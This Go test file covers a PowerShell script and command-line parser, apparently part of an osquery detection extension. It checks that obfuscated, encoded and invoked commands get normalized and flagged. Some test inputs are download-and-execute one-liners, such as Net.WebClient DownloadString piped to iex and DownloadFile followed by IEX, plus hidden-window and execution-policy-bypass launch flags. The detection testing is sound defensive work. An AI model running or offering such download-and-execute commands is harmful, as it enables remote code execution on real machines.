package powershell

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/osquery-rollcall/rollcall/extension/cmdline/dialect"
	"github.com/osquery-rollcall/rollcall/tests/cputime"
)

func budget() *dialect.Budget { return &dialect.Budget{Steps: 1 << 20, Bytes: 1 << 20} }

// encode is base64 of UTF-16, low byte first; s is ASCII.
func encode(s string) string {
	b := make([]byte, 0, 2*len(s))
	for i := 0; i < len(s); i++ {
		b = append(b, s[i], 0)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// show writes a command in one line: its words, a word with blanks in brackets,
// then redirections, what it reads, its members, its marks and the command it is
// piped into.
func show(c dialect.Simple) string {
	var b strings.Builder
	for i, a := range c.Argv {
		if i > 0 {
			b.WriteByte(' ')
		}
		if a == "" || strings.ContainsAny(a, " \t\n") {
			fmt.Fprintf(&b, "<%s>", a)
		} else {
			b.WriteString(a)
		}
	}
	for _, r := range c.Redirects {
		fmt.Fprintf(&b, " %s(%s)", r.Op, r.Target)
	}
	if c.Stdin != "" {
		fmt.Fprintf(&b, " stdin(%s)", c.Stdin)
	}
	for _, m := range c.Members {
		fmt.Fprintf(&b, " .%s()", m)
	}
	for _, m := range c.Marks {
		fmt.Fprintf(&b, " #%s", m)
	}
	if c.Next >= 0 {
		fmt.Fprintf(&b, " |%d", c.Next)
	}
	return b.String()
}

func showAll(cmds []dialect.Simple) []string {
	var out []string
	for _, c := range cmds {
		out = append(out, show(c))
	}
	return out
}

var cases = []struct {
	script string
	want   []string
}{
	// Plain commands.
	{`Get-Service`, []string{`Get-Service`}},
	{`Get-Service Spooler`, []string{`Get-Service Spooler`}},
	{`Get-Service -Name "Remote Desktop Services", "Remote Desktop Configuration"`,
		[]string{`Get-Service -Name <Remote Desktop Services,Remote Desktop Configuration>`}},
	{`Get-Service -ComputerName dc01,dc02 -Name:win*`, []string{`Get-Service -ComputerName dc01,dc02 -Name win*`}},
	{`Get-Service | where-object {$_.DisplayName -like '*sysm*'}`,
		[]string{`Get-Service |1`, `where-object <{$_.DisplayName -like '*sysm*'}>`}},
	{`Get-CimInstance Win32_Service -Filter 'Description = ''System Monitor service'''`,
		[]string{`Get-CimInstance Win32_Service -Filter <Description = 'System Monitor service'>`}},
	{`Get-ChildItem -Path 'HKLM:\SYSTEM\CurrentControlSet\Services' | ForEach-Object { $p = Get-ItemProperty -Path $_.PSPath -ErrorAction SilentlyContinue }`,
		[]string{`Get-ChildItem -Path HKLM:\SYSTEM\CurrentControlSet\Services |1`,
			`ForEach-Object <{ $p = Get-ItemProperty -Path $_.PSPath -ErrorAction SilentlyContinue }>`,
			`Get-ItemProperty -Path $_.PSPath -ErrorAction SilentlyContinue`}},
	{`Get-ChildItem -Path "HKLM:system\currentcontrolset\services"`, []string{`Get-ChildItem -Path HKLM:system\currentcontrolset\services`}},
	{`$currentServices = Get-Service | Select-Object -Property Name;`, []string{`Get-Service |1`, `Select-Object -Property Name`}},
	{`$service = Get-Service WinDefend -ErrorAction SilentlyContinue;`, []string{`Get-Service WinDefend -ErrorAction SilentlyContinue`}},
	{`sc.exe query state= all`, []string{`sc.exe query state= all`}},
	{`C:\Windows\System32\sc.exe query`, []string{`C:\Windows\System32\sc.exe query`}},
	{`& "C:\Program Files\a b\x.exe" -q`, []string{`<C:\Program Files\a b\x.exe> -q`}},
	{`& sc.exe query`, []string{`sc.exe query`}},
	{`. .\x.ps1 -A b`, []string{`.\x.ps1 -A b`}},
	{`7z.exe a x`, []string{`7z.exe a x`}},
	{`gsv;gwmi win32_service;net start`, []string{`gsv`, `gwmi win32_service`, `net start`}},
	{"gsv\ngps\r\nnet start", []string{`gsv`, `gps`, `net start`}},
	{`gsv && net start || gps`, []string{`gsv`, `net start`, `gps`}},
	{"Get-Service `\n -Name x", []string{`Get-Service -Name x`}},
	{"gsv |\n select Name |\n ft", []string{`gsv |1`, `select Name |2`, `ft`}},
	{``, nil},
	{"# gsv\n<# gps\n#> net start # tail", []string{`net start`}},
	{`echo a#b`, []string{`echo a#b`}},
	{`wmic --% service where (name='x') get | more`, []string{`wmic service where (name='x') get |1`, `more`}},
	{"Get-Service \u2013Name x", []string{`Get-Service -Name x #homoglyph`}},
	{"Get-Service -Name \u201cx y\u201d", []string{`Get-Service -Name <x y>`}},
	// Redirections.
	{`Get-Service > $env:TEMP\T1119_1.txt`, []string{`Get-Service >(C:\Users\User\AppData\Local\Temp\T1119_1.txt)`}},
	{`gsv >> 'a b.txt' 2>$null`, []string{`gsv >>(a b.txt) 2>($null)`}},
	{`gsv *> x 2>&1`, []string{`gsv *>(x) 2>(&1)`}},
	{`gsv | Out-File x -Append`, []string{`gsv |1`, `Out-File x -Append`}},
	{`(gsv) > x`, []string{`gsv >(x)`}},
	// Blocks and statements.
	{`if (Get-Service x) { net start } elseif ($a) { gps } else { ver }`, []string{`Get-Service x`, `net start`, `gps`, `ver`}},
	{`foreach ($s in Get-Service) { sc.exe qc $s.Name }`, []string{`Get-Service`, `sc.exe qc $s.Name`}},
	{`while ($true) { gsv; sleep 5 }`, []string{`gsv`, `sleep 5`}},
	{`do { gsv } until (Test-Path x)`, []string{`gsv`, `Test-Path x`}},
	{`for ($i=0; $i -lt 5; $i++) { gsv }`, []string{`gsv`}},
	{`switch ($x) { 'a' { gsv } default { gps } }`, []string{`gsv`, `gps`}},
	{`function f($a, [int]$b = 3) { gsv } ; f 1`, []string{`gsv`, `f 1`}},
	{`function f { param([Parameter(Mandatory=$true)][string]$x = (hostname)) gsv $x }`, []string{`hostname`, `gsv $x`}},
	{`try { gsv } catch [System.Exception] { gps } finally { ver }`, []string{`gsv`, `gps`, `ver`}},
	{`& { gsv } ; . { gps }`, []string{`gsv`, `gps`}},
	{`& { gsv } | select Name`, []string{`gsv |1`, `select Name`}},
	{`@(gsv).Count; $(gps); "x $(net start) y"`, []string{`gsv`, `gps`, `net start`}},
	{`icm -ComputerName dc01 -ScriptBlock { Get-Service }`, []string{`icm -ComputerName dc01 -ScriptBlock <{ Get-Service }>`, `Get-Service`}},
	{`Write-Host (gsv | measure).Count`, []string{`Write-Host <(gsv | measure).Count>`, `gsv |2`, `measure`}},
	{`gsv | ? Status -eq Running | % { $_.Name }`, []string{`gsv |1`, `? Status -eq Running |2`, `% <{ $_.Name }>`}},
	{`gsv | select @{n='x';e={ sc.exe qc $_.Name }}`, []string{`gsv |1`, `select <@{n='x';e={ sc.exe qc $_.Name }}>`, `sc.exe qc $_.Name`}},
	{`return gsv`, []string{`gsv`}},
	{`begin { gsv } process { gps } end { ver }`, []string{`gsv`, `gps`, `ver`}},
	{`[void](gsv)`, []string{`gsv`}},
	{`[int]$n = (gsv).Count`, []string{`gsv`}},
	{`1..3 | % { gsv; sc.exe qc $_ }`, []string{`% <{ gsv; sc.exe qc $_ }> stdin(1
2
3)`, `gsv`, `sc.exe qc 1`, `sc.exe qc 2`, `sc.exe qc 3`}},
	{`foreach ($h in 'a','b') { gsv -ComputerName $h | ft }`, []string{`gsv -ComputerName a |1`, `ft`, `gsv -ComputerName b |3`, `ft`}},
	// Members.
	{`(gwmi win32_service -Filter "name='x'").StopService()`, []string{`gwmi win32_service -Filter name='x' .stopservice()`}},
	{`(Get-Service x).Status`, []string{`Get-Service x`}},
	{`$s = gwmi win32_service; $s.StopService()`, []string{`gwmi win32_service .stopservice()`}},
	{`gwmi win32_service | % { $_.Delete() }`, []string{`gwmi win32_service .delete() |1`, `% <{ $_.Delete() }>`}},
	{`foreach ($s in gwmi win32_service) { $s.ChangeStartMode('Disabled') }`, []string{`gwmi win32_service .changestartmode()`}},
	{`(New-Object System.ServiceProcess.ServiceController('x')).Stop()`, []string{`New-Object System.ServiceProcess.ServiceController x .stop()`}},
	// Types.
	{`[System.ServiceProcess.ServiceController]::GetServices('host')`, []string{`[System.ServiceProcess.ServiceController]::GetServices host`}},
	{`[ServiceProcess.ServiceController]::GetServices() | select Name`, []string{`[ServiceProcess.ServiceController]::GetServices |1`, `select Name`}},
	{`$t=[System.ServiceProcess.ServiceController];$t::GetServices()`, []string{`[System.ServiceProcess.ServiceController]::GetServices #variable`}},
	{`([type]('System.ServiceProcess.Service'+'Controller'))::GetServices()`,
		[]string{`[System.ServiceProcess.ServiceController]::GetServices #concat #invoke_string`}},
	{`[wmisearcher]'select * from win32_service'`, []string{`[wmisearcher] <select * from win32_service>`}},
	{`([wmisearcher]"select * from win32_service").Get()`, []string{`[wmisearcher] <select * from win32_service> .get()`}},
	{`[wmiclass]"\\dc01\root\cimv2:Win32_Service"`, []string{`[wmiclass] \\dc01\root\cimv2:Win32_Service`}},
	{`[Microsoft.Win32.Registry]::LocalMachine.OpenSubKey('SYSTEM\CurrentControlSet\Services').GetSubKeyNames()`, []string{`[Microsoft.Win32.Registry]::LocalMachine SYSTEM\CurrentControlSet\Services .opensubkey() .getsubkeynames()`}},
	{`[Reflection.Assembly]::LoadWithPartialName('x') | Out-Null`, []string{`[Reflection.Assembly]::LoadWithPartialName x |1`, `Out-Null`}},
	{`[math]::Max(1,2); [string]::Join(',', 'a')`, nil},
	// Backticks and quotes.
	{"Get-Se`rvice", []string{`Get-Service #backtick`}},
	{"Get-Service -Na`me x", []string{`Get-Service -Name x #backtick`}},
	{"G\"et-Serv\"ice", []string{`Get-Service #quote_split`}},
	{`Get-'Ser'vice`, []string{`Get-Service #quote_split`}},
	{"echo `$x \"a`\"b\"", []string{`echo $x a"b`}},
	{`copy C:\"Program Files"\x y`, []string{`copy <C:\Program Files\x> y`}},
	// Computed names.
	{`& ('Get-'+'Service')`, []string{`Get-Service #concat #invoke_string`}},
	{`&('Get'+'-Ser'+'vice') -Name x`, []string{`Get-Service -Name x #concat #invoke_string`}},
	{`& ("{1}{0}" -f 'Service','Get-')`, []string{`Get-Service #concat #invoke_string`}},
	{`& ('Get','Service' -join '-')`, []string{`Get-Service #concat #invoke_string`}},
	{`& (-join ('Get-','Service'))`, []string{`Get-Service #concat #invoke_string`}},
	{`& ('Get-Xervice' -replace 'X','S')`, []string{`Get-Service #concat #invoke_string`}},
	{`& ('GetX-XService' -creplace '[X]')`, []string{`Get-Service #concat #invoke_string`}},
	{`& ('Get~Service'.Replace('~','-'))`, []string{`Get-Service #concat #invoke_string`}},
	{`& 'GET-SERVICE'.ToLower()`, []string{`get-service`}},
	{`& 'xxGet-Service'.Substring(2)`, []string{`Get-Service #substring #invoke_string`}},
	{`& ([char]71+[char]115+[char]118)`, []string{`Gsv #concat #invoke_string`}},
	{`& ([string]::Join('', ('Get','-Service')))`, []string{`Get-Service #concat #invoke_string`}},
	{`& ('ecivreS-teG'[-1..-11] -join '')`, []string{`Get-Service #concat #reversed #invoke_string`}},
	{`& ('abgcsdv'[2,4,6] -join '')`, []string{`gsv #concat #substring #invoke_string`}},
	{`& (('Get-Ser','vice') -join '') x`, []string{`Get-Service x #concat #invoke_string`}},
	{`$a='Get-Ser';$b='vice';& ($a+$b)`, []string{`Get-Service #concat #variable #invoke_string`}},
	{`$a='Get-Service';& $a -Name x`, []string{`Get-Service -Name x #variable`}},
	{`$a='Get-Service';. $a`, []string{`Get-Service #variable`}},
	{`$c=[char[]]'ecivreS-teG';[array]::Reverse($c);& (-join $c)`, []string{`Get-Service #concat #reversed #variable #invoke_string`}},
	{`& (gcm Get-Serv*)`, []string{`Get-Service #invoke_string`, `gcm Get-Serv*`}},
	{`sal q Get-Service; q -Name x`, []string{`sal q Get-Service`, `Get-Service -Name x #variable`}},
	{`gwmi ('Win32_'+'Service')`, []string{`gwmi Win32_Service #concat`}},
	{`gci ('C:\'+'x')`, []string{`gci C:\x`}},
	{`$p='C:\Temp'; gci "$p\x"`, []string{`gci C:\Temp\x`}},
	{`gci "$unknown\x" $other`, []string{`gci $unknown\x $other`}},
	{`gci $env:SystemRoot\System32`, []string{`gci C:\Windows\System32`}},
	{`$p=@{Class='Win32_Service';ComputerName='dc01'}; gwmi @p`, []string{`gwmi -Class Win32_Service -ComputerName dc01`}},
	// Invoke-Expression.
	{`iex 'Get-Service'`, []string{`iex Get-Service #invoke_string`}},
	{`Invoke-Expression -Command "Get-Service | select Name"`, []string{`Invoke-Expression -Command <Get-Service | select Name> #invoke_string`}},
	{`$a='Get-';$b='Service';iex "$a$b"`, []string{`iex Get-Service #variable #invoke_string`}},
	{`iex ('Get-Ser'+'vice')`, []string{`iex Get-Service #concat #invoke_string`}},
	{`'Get-Service' | iex`, []string{`iex Get-Service #invoke_string`}},
	{`echo 'Get-Service' | iex`, []string{`echo Get-Service |1`, `iex Get-Service #invoke_string`}},
	{`iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('` + encode("Get-Service") + `')))`, []string{`iex Get-Service #encoded #invoke_string`}},
	{`IEX ([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String("R2V0LVNlcnZpY2U=")))`, []string{`IEX Get-Service #encoded #invoke_string`}},
	{`[Text.Encoding]::ASCII.GetString((71,101,116,45,83,101,114,118,105,99,101)) | iex`, []string{`iex Get-Service #encoded #invoke_string`}},
	{`& ([scriptblock]::Create('Get-Service'))`, []string{`iex Get-Service #invoke_string`}},
	{`[scriptblock]::Create('Get-Service').Invoke()`, []string{`iex Get-Service #invoke_string`}},
	{`$ExecutionContext.InvokeCommand.InvokeScript('Get-Service')`, []string{`iex Get-Service #invoke_string`}},
	{`&( $env:comspec[4,24,25]-join'') 'gsv'`, []string{`iex gsv #concat #substring #invoke_string`}},
	{`& ($pshome[4]+$pshome[30]+'x') 'gsv'`, []string{`iex gsv #concat #substring #invoke_string`}},
	{`iex (New-Object Net.WebClient).DownloadString('http://x/a')`,
		[]string{`iex #invoke_string`, `New-Object Net.WebClient http://x/a .downloadstring()`}},
	{"iex @'\nGet-Service\nnet start\n'@", []string{"iex <Get-Service\nnet start> #invoke_string"}},
	{"$x = @\"\nGet-Service $env:OS\n\"@\niex $x", []string{"iex <Get-Service Windows_NT> #variable #invoke_string"}},
	{`$s='';foreach($c in 71,115,118){$s+=[char]$c};& $s`, []string{`Gsv #concat #variable #invoke_string`}},
	// Standard input.
	{`"sc query" | cmd`, []string{`cmd stdin(sc query)`}},
	{`"gsv" | powershell -`, []string{`powershell - stdin(gsv)`}},
	{`"a","b" | sc.exe`, []string{"sc.exe stdin(a\nb)"}},
	// As recorded.
	{`if([IntPtr]::Size -eq 4){$b='powershell.exe'}else{$b=$env:windir+'\syswow64\WindowsPowerShell\v1.0\powershell.exe'};$s=New-Object System.Diagnostics.ProcessStartInfo;$s.FileName=$b;$p=[System.Diagnostics.Process]::Start($s)`,
		[]string{`New-Object System.Diagnostics.ProcessStartInfo`, `[System.Diagnostics.Process]::Start $s`}},
	{`Set-Location -literalPath 'C:\tool-test\tools\x'`, []string{`Set-Location -literalPath C:\tool-test\tools\x`}},
	{`(New-Object Net.WebClient).DownloadFile('https://x/y','z.ps1');IEX((-Join([IO.File]::ReadAllBytes('z.ps1')|ForEach-Object{[Char]$_})))`,
		[]string{`New-Object Net.WebClient .downloadfile()`,
			`IEX #invoke_string`,
			`[IO.File]::ReadAllBytes z.ps1 |3`, `ForEach-Object {[Char]$_}`}},
}

func TestParse(t *testing.T) {
	for _, tt := range cases {
		got, err := Parse(tt.script, budget())
		if err != nil {
			t.Errorf("Parse(%q): %v", tt.script, err)
		}
		if diff := cmp.Diff(tt.want, showAll(got)); diff != "" {
			t.Errorf("Parse(%q) (-want +got):\n%s", tt.script, diff)
		}
	}
}

func TestBounds(t *testing.T) {
	deep := strings.Repeat("(", 40) + "Get-Service -Name x" + strings.Repeat(")", 40) + "; net start"
	got, err := Parse(deep, budget())
	if err == nil || !strings.Contains(err.Error(), "16 deep") {
		t.Errorf("deep parentheses: error %v", err)
	}
	if diff := cmp.Diff([]string{"Get-Service -Name x", "net start"}, showAll(got)); diff != "" {
		t.Errorf("deep parentheses: %s", diff)
	}
	// Doubling a text forty times must not.
	blow := "$a='xxxxxxxx'" + strings.Repeat(";$a=$a+$a", 40) + ";gsv"
	got, err = Parse(blow, &dialect.Budget{Steps: 1 << 16, Bytes: 1 << 16})
	if err == nil {
		t.Error("doubling a text: no error")
	}
	if n := len(got); n == 0 || show(got[n-1]) != "gsv" {
		t.Errorf("doubling a text: the last command is lost: %q", showAll(got))
	}
	if _, err := Parse("gsv", &dialect.Budget{}); err == nil {
		t.Error("empty budget: no error")
	}
	for _, bad := range []string{`"gsv`, `'gsv`, `(gsv`, `{gsv`, "@'\ngsv"} {
		if _, err := Parse(bad, budget()); err == nil {
			t.Errorf("Parse(%q): no error", bad)
		}
	}
	// Rounds may run out, but not before each body was read once.
	got, err = Parse(`1..9999 | % { 1 }; 1..3 | % { gsv }; net start`, budget())
	if n := len(got); err == nil || n < 3 || show(got[n-1]) != "net start" || show(got[n-2]) != "gsv" {
		t.Errorf("rounds run out: %q, %v", showAll(got), err)
	}
	// Of a long sweep the first rounds are kept.
	got, _ = Parse(`1..254 | % { ping "10.0.0.$_" }`, budget())
	if len(got) != emittedRounds+1 || show(got[1]) != "ping 10.0.0.1" {
		t.Errorf("sweep: %q", showAll(got))
	}
}

var adversarial = map[string]func(n int) string{
	"parens":      func(n int) string { return strings.Repeat("(", n) + "x" + strings.Repeat(")", n) },
	"open parens": func(n int) string { return strings.Repeat("(", n) },
	"blocks":      func(n int) string { return strings.Repeat("{", n) + "x" },
	"nested 15": func(n int) string {
		return strings.Repeat(strings.Repeat("(", 15)+"x"+strings.Repeat(")", 15)+";", n/32)
	},
	"subexpressions": func(n int) string { return strings.Repeat(`"$(`, n/3) },
	"strings":        func(n int) string { return strings.Repeat(`'`, n) },
	"double strings": func(n int) string { return strings.Repeat(`"`, n+1) },
	"backticks":      func(n int) string { return strings.Repeat("`", n) },
	"backtick words": func(n int) string { return strings.Repeat("`a", n/2) },
	"plus":           func(n int) string { return "iex ('a'" + strings.Repeat("+'a'", n/4) + ")" },
	"plus equals":    func(n int) string { return "$a='a'" + strings.Repeat(";$a+='aaaa'", n/11) },
	"doubling":       func(n int) string { return "$a='a'" + strings.Repeat(";$a=$a+$a", n/9) },
	"interpolation":  func(n int) string { return "$a='b';\"" + strings.Repeat("$a", n/2) + "\"" },
	"join":           func(n int) string { return "iex (('a'" + strings.Repeat(",'a'", n/4) + ") -join '')" },
	"joins":          func(n int) string { return "'a'" + strings.Repeat(" -join 'b'", n/10) },
	"unary joins":    func(n int) string { return strings.Repeat("-join ", n/6) },
	"replaces":       func(n int) string { return "'aaaaaaaaaaaaaaaa'" + strings.Repeat(" -replace 'a','b'", n/17) },
	"regexps":        func(n int) string { return "'aaaaaaaaaaaaaaaa'" + strings.Repeat(" -replace '(a+)+b','b'", n/22) },
	"casts":          func(n int) string { return strings.Repeat("[int]", n/5) + "1" },
	"open types":     func(n int) string { return strings.Repeat("[", n) },
	"nots":           func(n int) string { return strings.Repeat("!", n) },
	"assignments":    func(n int) string { return strings.Repeat("$a=", n/3) },
	"members":        func(n int) string { return "$a" + strings.Repeat(".b", n/2) },
	"methods":        func(n int) string { return "'a'" + strings.Repeat(".ToLower()", n/10) },
	"indexes":        func(n int) string { return "$a" + strings.Repeat("[0]", n/3) },
	"pipes":          func(n int) string { return strings.Repeat("a|", n/2) + "b" },
	"literal pipes":  func(n int) string { return "'a'" + strings.Repeat("|%{$_}", n/6) },
	"range":          func(n int) string { return strings.Repeat("1..9999|%{1..9999|%{$_}};", n/25) },
	"commas":         func(n int) string { return "gsv a" + strings.Repeat(",a", n/2) },
	"bare commas":    func(n int) string { return "gsv " + strings.Repeat(",", n) },
	"hash":           func(n int) string { return strings.Repeat("@{a=", n/4) },
	"hash items":     func(n int) string { return "@{" + strings.Repeat("a=1;", n/4) + "}" },
	"dollars":        func(n int) string { return strings.Repeat("$", n) },
	"braced":         func(n int) string { return strings.Repeat("${", n/2) },
	"comments":       func(n int) string { return strings.Repeat("<#", n/2) },
	"hashes":         func(n int) string { return strings.Repeat("#\n", n/2) },
	"dashes":         func(n int) string { return strings.Repeat("-", n) },
	"params":         func(n int) string { return "gsv " + strings.Repeat("-a:", n/3) },
	"redirects":      func(n int) string { return "gsv " + strings.Repeat(">a ", n/3) },
	"if":             func(n int) string { return strings.Repeat("if(", n/3) },
	"foreach":        func(n int) string { return strings.Repeat("foreach($a in 1,2){", n/19) },
	"foreach range":  func(n int) string { return strings.Repeat("foreach($a in 1..99){a}", n/23) },
	"functions":      func(n int) string { return strings.Repeat("function a{", n/11) },
	"here-strings":   func(n int) string { return strings.Repeat("@'\n", n/3) },
	"unicode":        func(n int) string { return strings.Repeat("\u201c\u2018", n/6) },
	"base64":         func(n int) string { return "[Convert]::FromBase64String('" + strings.Repeat("A", n) + "')" },
	"format":         func(n int) string { return "'" + strings.Repeat("{0}", n/3) + "' -f 'abc'" },
	"statics":        func(n int) string { return strings.Repeat("[a]::b(", n/7) },
	"calls":          func(n int) string { return strings.Repeat("& ", n/2) },
	"words":          func(n int) string { return strings.Repeat("a ", n/2) },
	"big body":       func(n int) string { return "1..9999|%{" + strings.Repeat("x;", n/2) + "}" },
	"big bodies": func(n int) string {
		return strings.Repeat("foreach($a in 1..99){", 8) + strings.Repeat("x;", n/2) + "}"
	},
	"array adds": func(n int) string { return "$a=@()" + strings.Repeat(";$a+=1", n/6) },
}

// TestLinear holds that sixteen times the input costs no more than some sixty
// times the time; a quadratic step would cost 256 times.
func TestLinear(t *testing.T) {
	if testing.Short() {
		t.Skip("NOT TESTED: that time grows linearly with adversarial input")
	}
	cost := func(script string) time.Duration {
		best := time.Hour
		for range 3 {
			b := &dialect.Budget{Steps: 1 << 18, Bytes: 1 << 20}
			start := cputime.Start()
			_, err := Parse(script, b)
			_ = err // many of these texts are wrong; only time matters here
			best = min(best, start.Took())
		}
		return best
	}
	for name, gen := range adversarial {
		small, large := cost(gen(8<<10)), cost(gen(128<<10))
		if large > 64*small && large > 500*time.Millisecond {
			t.Errorf("%s: %v for 8 KiB, %v for 128 KiB", name, small, large)
		}
		t.Logf("%-14s %10v %10v", name, small, large)
	}
}

func TestParseCommandLine(t *testing.T) {
	enc := encode("Get-Service")
	tests := []struct {
		argv string // words separated by |
		want Invocation
	}{
		{`powershell.exe|Get-Service`, Invocation{Script: "Get-Service"}},
		{`powershell.exe|Get-Service|-Name|x`, Invocation{Script: "Get-Service -Name x"}},
		{`powershell|-Command|Get-Service|x`, Invocation{Script: "Get-Service x"}},
		{`powershell|-c|gsv`, Invocation{Script: "gsv"}},
		{`powershell|/c|gsv`, Invocation{Script: "gsv"}},
		{`powershell|--comm|gsv`, Invocation{Script: "gsv"}},
		{"powershell|\u2013c|gsv", Invocation{Script: "gsv"}},
		{"powershell|\u2014enc|" + enc, Invocation{Script: "Get-Service", Encoded: true}},
		{`powershell|-e|` + enc, Invocation{Script: "Get-Service", Encoded: true}},
		{`powershell|-ec|` + enc, Invocation{Script: "Get-Service", Encoded: true}},
		{`powershell|-EncodedComma|` + enc, Invocation{Script: "Get-Service", Encoded: true}},
		{`powershell|/EnC|` + strings.TrimRight(enc, "="), Invocation{Script: "Get-Service", Encoded: true}},
		{`powershell|-enc|***`, Invocation{Encoded: true}},
		{`powershell|-enc`, Invocation{}},
		{`powershell|-nop|-noni|-w|hidden|-ep|Bypass|-c|gsv`,
			Invocation{Script: "gsv", NoProfile: true, NonInteractive: true, HiddenWindow: true, ExecutionPolicy: "bypass"}},
		{`powershell|-NoP|-sta|-NonI|-W|Hidden|-Enc|` + enc,
			Invocation{Script: "Get-Service", Encoded: true, NoProfile: true, NonInteractive: true, HiddenWindow: true}},
		{`powershell|-w|1|-c|gsv`, Invocation{Script: "gsv", HiddenWindow: true}},
		{`powershell|-win|h|-c|gsv`, Invocation{Script: "gsv", HiddenWindow: true}},
		{`powershell|-w|normal|-c|gsv`, Invocation{Script: "gsv"}},
		{`powershell|-exec|bypass|-noexit|-nologo|-mta|gsv`, Invocation{Script: "gsv", ExecutionPolicy: "bypass"}},
		{`powershell|-version|2|-c|gsv`, Invocation{Script: "gsv", Version: "2"}},
		{`powershell|-v|2.0|gsv`, Invocation{Script: "gsv", Version: "2.0"}},
		{`powershell|-inputformat|none|-outputformat|text|-psconsolefile|x|-configurationname|y|gsv`, Invocation{Script: "gsv"}},
		{`powershell|-EncodedArguments|AAAA|-c|gsv`, Invocation{Script: "gsv"}},
		{`powershell|-File|a.ps1|-x|1`, Invocation{File: "a.ps1", FileArgs: []string{"-x", "1"}}},
		{`powershell|-f|-`, Invocation{StdinScript: true}},
		{`powershell|-`, Invocation{StdinScript: true}},
		{`powershell|-c|-`, Invocation{StdinScript: true}},
		{`powershell`, Invocation{StdinScript: true}},
		{`powershell|-nop`, Invocation{StdinScript: true, NoProfile: true}},
		{`powershell|a.ps1|x`, Invocation{Script: "a.ps1 x"}},
		{`C:\Program Files\PowerShell\7\pwsh.exe|a.ps1|x`, Invocation{File: "a.ps1", FileArgs: []string{"x"}}},
		{`pwsh|-wd|C:\|-c|gsv|x`, Invocation{Script: "gsv x"}},
		{`pwsh|-cwa|gsv|x`, Invocation{Script: "gsv"}},
	}
	for _, tt := range tests {
		got, ok := ParseCommandLine(strings.Split(tt.argv, "|"), budget())
		if !ok {
			t.Errorf("ParseCommandLine(%q): not understood", tt.argv)
		}
		if len(got.FileArgs) == 0 {
			got.FileArgs = nil
		}
		if diff := cmp.Diff(tt.want, got); diff != "" {
			t.Errorf("ParseCommandLine(%q) (-want +got):\n%s", tt.argv, diff)
		}
	}
	for _, none := range [][]string{nil, {"powershell", "-?"}, {"pwsh", "--help"}} {
		if got, ok := ParseCommandLine(none, budget()); ok {
			t.Errorf("ParseCommandLine(%q) = %+v, want nothing", none, got)
		}
	}
	b := &dialect.Budget{Steps: 100, Bytes: 4}
	if got, _ := ParseCommandLine([]string{"powershell", "-enc", enc}, b); got.Script != "" || !got.Encoded {
		t.Errorf("small budget: %+v", got)
	}
}

func FuzzParse(f *testing.F) {
	for _, tt := range cases {
		f.Add(tt.script)
	}
	f.Fuzz(func(t *testing.T, script string) {
		cmds, err := Parse(script, &dialect.Budget{Steps: 1 << 14, Bytes: 1 << 18})
		_ = err // any text may be wrong
		for i, c := range cmds {
			if len(c.Argv) == 0 || c.Argv[0] == "" {
				t.Fatalf("command %d of %q has no name", i, script)
			}
			if c.Next != -1 && (c.Next <= i || c.Next >= len(cmds)) {
				t.Fatalf("command %d of %q is piped into %d of %d", i, script, c.Next, len(cmds))
			}
		}
	})
}

func FuzzParseCommandLine(f *testing.F) {
	f.Add("powershell|-nop|-enc|" + encode("gsv"))
	f.Add("pwsh|\u2014c|x")
	f.Fuzz(func(t *testing.T, argv string) {
		ParseCommandLine(strings.Split(argv, "|"), &dialect.Budget{Steps: 1 << 10, Bytes: 1 << 16})
	})
}

func BenchmarkParse(b *testing.B) {
	for _, bm := range []struct{ name, script string }{
		{"plain", `Get-ChildItem -Path 'HKLM:\SYSTEM\CurrentControlSet\Services' -Recurse -ErrorAction SilentlyContinue | Select-Object -Property Name, DisplayName`},
		{"computed", `$a='Get-Ser';$b='vice';& ($a+$b) | where-object {$_.DisplayName -like '*sysm*'}; iex ('Get-'+'Cim'+'Instance Win32_Service'); gwmi ('Win32_'+'Service')`},
	} {
		b.Run(bm.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				bud := dialect.Budget{Steps: 1 << 16, Bytes: 1 << 16}
				if _, err := Parse(bm.script, &bud); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
